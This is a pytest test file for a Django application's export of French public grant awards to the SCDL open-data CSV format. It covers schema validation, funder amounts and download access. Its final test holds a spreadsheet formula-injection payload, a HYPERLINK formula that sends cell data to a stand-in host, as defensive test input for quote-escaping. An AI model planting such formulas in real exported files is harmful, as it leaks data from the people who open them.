import csv
import io
import json
import os
from collections import defaultdict
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import CommandError, call_command
from django.db.models import Sum
from django.urls import reverse
from django.utils import timezone
from frictionless import Resource, Schema, validate

from departments.enums import OrganisationKind
from departments.models import Organisation
from projects.enums import CallStatus, Funder
from projects.exchange.opendata import SCDL_COLUMNS, write_scdl
from projects.models import Award, FundingLine
from projects.money import split
from tests.departments.factories import administrator, caf_instructor, regional_approver
from tests.projects.exchange.factories import funders_with_sirets, laureate
from tests.projects.factories import ApplicantFactory, ApplicationFactory, CallFactory

SCHEMA_NAME = "scdl-subventions-2.1.1.schema.json"


# A copy of the schema travels with the tests, so that a clone alone runs them; where the shared
# reference data sits beside the repository (../shared/data), the copy must be identical to it.
VENDORED_SCHEMA = Path(__file__).resolve().parents[3] / "tests" / "data" / SCHEMA_NAME
SHARED_SCHEMA = Path(settings.BASE_DIR).parent / "shared" / "data" / SCHEMA_NAME


def schema_path() -> Path:
    """The schema where FIPE_SHARED_DATA says, else the copy kept with the tests."""
    if os.environ.get("FIPE_SHARED_DATA"):
        return Path(os.environ["FIPE_SHARED_DATA"]) / SCHEMA_NAME
    return VENDORED_SCHEMA


@pytest.mark.skipif(not SHARED_SCHEMA.is_file(), reason="no shared reference data beside the repository")
def test_the_schema_kept_with_the_tests_is_the_shared_one():
    assert VENDORED_SCHEMA.read_bytes() == SHARED_SCHEMA.read_bytes()


@pytest.fixture
def approver(db):
    return regional_approver()


@pytest.fixture
def call(db):
    funders_with_sirets()
    return CallFactory()


@pytest.fixture
def laureates(call, approver):
    """Three laureates (one notified, one association with an RNA), a proposal and a refusal-bound file."""
    made = [
        laureate(by=approver, amounts_by_year={2023: Decimal("40000"), 2024: Decimal("30000.50")}),
        laureate(
            by=approver,
            department_code="31",
            applicant=ApplicantFactory(association=True, rna="W313012345"),
            title="Crèche « Les Petits Pas », horaires atypiques, 30 places",
        ),
        laureate(by=approver, department_code="34", amounts_by_year={2025: Decimal("12345.67")}),
    ]
    made[0].notify(by=approver)
    ApplicationFactory(proposed=True)
    ApplicationFactory(not_proposed=True)
    return made


def scdl_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8"))))


def test_the_scdl_file_validates_against_the_schema(call, laureates, tmp_path):
    path = tmp_path / "subventions.csv"
    path.write_bytes(write_scdl(call))
    schema = Schema.from_descriptor(json.loads(schema_path().read_text(encoding="utf-8")))
    report = validate(Resource(path=path.name, basepath=str(tmp_path), schema=schema))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    assert next(csv.reader(io.StringIO(path.read_text(encoding="utf-8")))) == SCDL_COLUMNS


def test_one_row_per_laureate_and_funder_with_the_grant_fields(call, laureates):
    rows = scdl_rows(write_scdl(call))
    assert len(rows) == 2 * len(laureates)
    first = laureates[0]
    state, cnaf = [row for row in rows if row["referenceDecision"] == first.reference]
    prefecture = Organisation.objects.get(kind=OrganisationKind.REGIONAL_PREFECTURE, region__code="76")
    assert (state["nomAttribuant"], state["idAttribuant"]) == (prefecture.name, prefecture.siret)
    assert (cnaf["nomAttribuant"], cnaf["idAttribuant"]) == (
        "Caisse nationale des allocations familiales",
        Organisation.objects.get(kind=OrganisationKind.CNAF).siret,
    )
    assert state["montant"] == cnaf["montant"] == "70000.50"
    assert state["pourcentageSubvention"] == cnaf["pourcentageSubvention"] == "0.5"
    assert state["dateConvention"] == timezone.localtime(first.award.approved_at).date().isoformat()
    assert state["nomBeneficiaire"] == first.applicant.legal_name
    assert state["idBeneficiaire"] == first.applicant.siret
    assert state["objet"] == first.title
    assert (state["nature"], state["conditionsVersement"], state["notificationUE"]) == (
        "aide en numéraire",
        "échelonné",
        "non",
    )
    assert state["datesPeriodeVersement"] == "2023-01-01/2025-12-31"
    assert state["dispositifAide"] == "FIPE-OCC-2023"
    association = next(row for row in rows if row["referenceDecision"] == laureates[1].reference)
    assert association["rnaBeneficiaire"] == "W313012345"


def test_amounts_per_funder_add_up_to_the_awards(call, laureates):
    """Each funder's part of a grant is montant × pourcentageSubvention by the money rule
    (the State's part rounded half-up to the cent, the Cnaf the rest): it is what its lines say
    as long as no more than one year of a grant has an odd cent, as here."""
    rows = scdl_rows(write_scdl(call))
    state_siret = Organisation.objects.get(kind=OrganisationKind.REGIONAL_PREFECTURE, region__code="76").siret
    by_funder = defaultdict(Decimal)
    for reference in {row["referenceDecision"] for row in rows}:
        state, cnaf = sorted(
            (row for row in rows if row["referenceDecision"] == reference),
            key=lambda row: row["idAttribuant"] != state_siret,
        )
        assert state["montant"] == cnaf["montant"]
        assert Decimal(state["pourcentageSubvention"]) + Decimal(cnaf["pourcentageSubvention"]) == 1
        state_part, cnaf_part = split(Decimal(state["montant"]), Decimal(state["pourcentageSubvention"]))
        by_funder[Funder.STATE] += state_part
        by_funder[Funder.CNAF] += cnaf_part
    lines = dict(FundingLine.objects.values_list("funder").annotate(total=Sum("amount")))
    assert by_funder[Funder.STATE] == lines[Funder.STATE] == Decimal("56173.09")
    assert by_funder[Funder.CNAF] == lines[Funder.CNAF]
    assert sum(by_funder.values()) == Award.objects.aggregate(total=Sum("total"))["total"]


def test_an_uneven_share_is_given_to_each_funder(approver):
    funders_with_sirets()
    call = CallFactory(state_share=Decimal("0.6"))
    laureate(by=approver, call=call)
    rows = scdl_rows(write_scdl(call))
    assert [row["pourcentageSubvention"] for row in rows] == ["0.6", "0.4"]


def test_a_single_funder_can_be_exported(call, laureates):
    rows = scdl_rows(write_scdl(call, "cnaf"))
    assert len(rows) == len(laureates)
    assert {row["nomAttribuant"] for row in rows} == {"Caisse nationale des allocations familiales"}


def test_command_writes_the_file(call, laureates, tmp_path, capsys):
    path = tmp_path / "scdl.csv"
    call_command("export_scdl", "--call", call.reference, "--funder", "state", "--output", str(path))
    assert "3 subventions écrites" in capsys.readouterr().out
    assert len(scdl_rows(path.read_bytes())) == 3


def test_command_names_the_funder_whose_siret_is_missing(call, laureates, tmp_path):
    Organisation.objects.filter(kind=OrganisationKind.CNAF).update(siret="")
    path = tmp_path / "scdl.csv"
    with pytest.raises(CommandError) as error:
        call_command("export_scdl", "--call", call.reference, "--output", str(path))
    assert str(error.value) == (
        "Le SIRET de l’organisation « Caisse nationale des allocations familiales » n’est pas renseigné : "
        "complétez-le dans l’administration (Organisations) avant d’exporter."
    )
    assert not path.exists()
    call_command("export_scdl", "--call", call.reference, "--funder", "state", "--output", str(path))
    assert path.exists()


def test_the_download_is_public_only_once_the_results_are_published(client, call, laureates):
    url = reverse("projects:call_open_data", args=[call.reference])
    assert client.get(url).status_code == 404
    client.force_login(caf_instructor("11"))
    assert client.get(url).status_code == 404
    client.logout()
    call.status = CallStatus.RESULTS_PUBLISHED
    call.save()
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="FIPE-OCC-2023-subventions-scdl.csv"'
    assert len(scdl_rows(response.content)) == 6


def test_regional_staff_may_check_the_file_before_publication(client, call, laureates, approver):
    client.force_login(approver)
    response = client.get(reverse("projects:call_open_data", args=[call.reference]))
    assert response.status_code == 200


def test_the_download_explains_a_missing_siret(client, call, laureates, approver):
    Organisation.objects.filter(kind=OrganisationKind.REGIONAL_PREFECTURE).update(siret="")
    client.force_login(approver)
    response = client.get(reverse("projects:call_open_data", args=[call.reference]), follow=True)
    assert "Le SIRET de l’organisation « Préfecture de la région Occitanie » n’est pas renseigné" in response.text


def test_admin_action_downloads_the_file(client, call, laureates):
    client.force_login(administrator(is_superuser=True))
    response = client.post(
        reverse("admin:projects_call_changelist"), {"action": "download_scdl", "_selected_action": [call.pk]}
    )
    assert len(scdl_rows(response.content)) == 6


def test_a_title_written_as_a_formula_stays_text_in_the_public_file(call, approver, tmp_path):
    funders_with_sirets()
    laureate(
        by=approver,
        title='=HYPERLINK("http://example.org/vol?d="&A1;"Cliquez")',
        applicant=ApplicantFactory(legal_name="@SOMME(1+1)"),
    )
    content = write_scdl(call)
    rows = scdl_rows(content)
    assert {row["objet"] for row in rows} == {'\'=HYPERLINK("http://example.org/vol?d="&A1;"Cliquez")'}
    assert {row["nomBeneficiaire"] for row in rows} == {"'@SOMME(1+1)"}
    path = tmp_path / "subventions.csv"
    path.write_bytes(content)
    schema = Schema.from_descriptor(json.loads(schema_path().read_text(encoding="utf-8")))
    assert validate(Resource(path=path.name, basepath=str(tmp_path), schema=schema)).valid
